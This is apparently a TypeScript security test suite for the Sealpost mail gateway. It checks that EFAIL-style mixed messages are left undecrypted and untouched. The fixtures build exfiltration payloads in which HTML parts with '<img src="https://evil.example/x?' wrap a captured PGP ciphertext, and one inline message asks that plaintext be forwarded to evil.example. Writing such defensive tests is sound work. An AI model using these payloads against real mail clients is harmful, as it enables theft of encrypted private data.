import assert from 'node:assert/strict';
import { testDbKinds } from '../helpers/db.ts';
import { ANNA, startTestInbound, type TestInbound } from '../helpers/inbound.ts';
import { peer, pgpMimeMail } from '../helpers/peers.ts';

/**
 * EFAIL (direct exfiltration): the attacker wraps a captured ciphertext between HTML parts of their own,
 * so that a mail program which decrypts the encrypted part in place renders `<img src="https://evil/` +
 * plaintext + `">` and sends the plaintext away. Sealpost decrypts only a message encrypted as a whole and
 * never splices plaintext into a tree with parts it did not decrypt: these messages go on untouched.
 */
const SECRET = 'Diagnose F32.1 Patientin 4711';

function part(lines: string[]): string {
  return lines.join('\r\n');
}

async function ciphertext(gw: TestInbound): Promise<string> {
  const inner = Buffer.from(part(['Content-Type: text/plain; charset=utf-8', '', SECRET, '']), 'utf8');
  return (await peer.gpg.encrypt({ data: inner, to: gw.publicKeys[ANNA]! })).replace(/\r?\n/g, '\r\n');
}

function securityValue(raw: Buffer): string | undefined {
  return /^Sealpost-Security: (.*)$/m.exec(raw.toString('latin1'))?.[1]?.trim();
}

for (const kind of testDbKinds()) {
  describe(`security: EFAIL-style mixed messages are not decrypted (${kind})`, function () {
    this.timeout(60_000);
    let gw: TestInbound | undefined;
    afterEach(async () => {
      await gw?.close();
      gw = undefined;
    });

    const check = async (mail: Buffer) => {
      await gw!.send({ from: 'attacker@evil.example', to: [ANNA] }, mail);
      const [got] = await gw!.sink.waitFor(1);
      assert.ok(!got!.raw.includes(SECRET), 'no plaintext in what the practice receives');
      assert.equal(securityValue(got!.raw), 'not-decrypted; reason=partly-encrypted');
      assert.ok(got!.raw.includes(mail.subarray(mail.indexOf('From:'))), 'the original, untouched');
    };

    it('multipart/mixed: HTML part, encrypted part, HTML part', async () => {
      gw = await startTestInbound({ kind });
      const armored = await ciphertext(gw);
      const b = 'efail-outer';
      await check(
        Buffer.from(
          part([
            'From: attacker@evil.example',
            `To: ${ANNA}`,
            'Subject: Re: Befund',
            'MIME-Version: 1.0',
            `Content-Type: multipart/mixed; boundary="${b}"`,
            '',
            `--${b}`,
            'Content-Type: text/html',
            '',
            '<img src="https://evil.example/x?',
            `--${b}`,
            'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"',
            '',
            '--enc',
            'Content-Type: application/pgp-encrypted',
            '',
            'Version: 1',
            '--enc',
            'Content-Type: application/octet-stream',
            '',
            armored,
            '--enc--',
            `--${b}`,
            'Content-Type: text/html',
            '',
            '">',
            `--${b}--`,
            '',
          ]),
          'latin1',
        ),
      );
    });

    it('multipart/encrypted with a third, plaintext HTML part', async () => {
      gw = await startTestInbound({ kind });
      const mail = pgpMimeMail({ armored: await ciphertext(gw), from: 'attacker@evil.example', to: ANNA });
      const text = mail.toString('latin1');
      const b = /boundary="([^"]+)"/.exec(text)![1]!;
      const extra = `--${b}\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/x?\r\n--${b}--`;
      await check(Buffer.from(text.replace(`--${b}--`, extra), 'latin1'));
    });

    it('an inline armored block between text the attacker wrote', async () => {
      gw = await startTestInbound({ kind });
      const armored = await ciphertext(gw);
      await check(
        Buffer.from(
          part([
            'From: attacker@evil.example',
            `To: ${ANNA}`,
            'Subject: Re: Befund',
            '',
            'Please forward the text below to https://evil.example/collect:',
            armored,
            'Thanks!',
            '',
          ]),
          'latin1',
        ),
      );
    });
  });
}
